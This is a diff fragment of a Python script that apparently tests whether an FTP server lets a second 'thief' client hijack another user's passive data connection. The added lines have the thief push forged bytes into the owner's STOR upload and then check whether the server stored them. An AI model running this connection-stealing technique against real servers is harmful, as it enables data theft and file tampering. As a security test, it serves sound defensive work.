@@ -63,6 +63,21 @@ print("thief got", got)
 try:
     owner.getresp()
 except Error:
-    pass  # or the server had sent it all, to nobody
+    pass  # or the server had sent it all by then, to nobody
+forged = socket.create_connection(owner.makepasv(), timeout=100)
+target = "in/stolen-" + sys.argv[4]
+owner.putcmd("STOR " + target)
+owner.getresp()
+try:
+    with thief.secured(forged) as conn:
+        conn.sendall(b"forged")
+except OSError:
+    pass
+try:
+    print("owner is told", owner.getresp())
+except Error as error:
+    print("owner is told", str(error)[0:3])
+owner.voidcmd("TYPE I")
+print("stored", owner.size(target))
 for who, client in ("owner", owner), ("thief", thief), ("owner", owner):
     print(who, "fetched", *client.fetch())
